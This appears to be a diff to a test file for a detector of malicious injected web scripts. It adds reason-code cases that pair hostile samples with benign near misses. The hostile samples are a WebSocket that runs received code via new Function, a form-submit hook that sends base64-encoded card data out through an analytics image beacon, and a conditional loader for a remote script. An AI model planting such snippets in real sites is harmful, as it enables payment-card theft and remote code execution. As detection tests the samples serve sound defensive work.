@@ -77,6 +77,18 @@ const cases: [ReasonCode, ReasonWeight, hit: string, nearMiss: string][] = [
     `if(location.pathname.indexOf('blog')>0){var s=document.createElement('script');s.src='https://cdn.stranger-shop.example/j.js';document.head.appendChild(s)}`,
   ],
   [
+    'received-code',
+    'strong',
+    `var w=new WebSocket('wss://live.stranger-shop.example/x');w.onmessage=function(e){new Function(e.data)()}`,
+    `var w=new WebSocket('wss://live.stranger-shop.example/x');w.onmessage=function(e){document.title=e.data}`,
+  ],
+  [
+    'card-to-vendor',
+    'strong',
+    onSubmit(`new Image().src='https://www.google-analytics.com/collect?v=1&ea='+btoa(${readCard})`),
+    onSubmit(`new Image().src='https://www.google-analytics.com/collect?v=1&ea=submit'`),
+  ],
+  [
     'known-bad-host',
     'strong',
     `new Image().src='https://magento-analytics.com/p.gif'`,
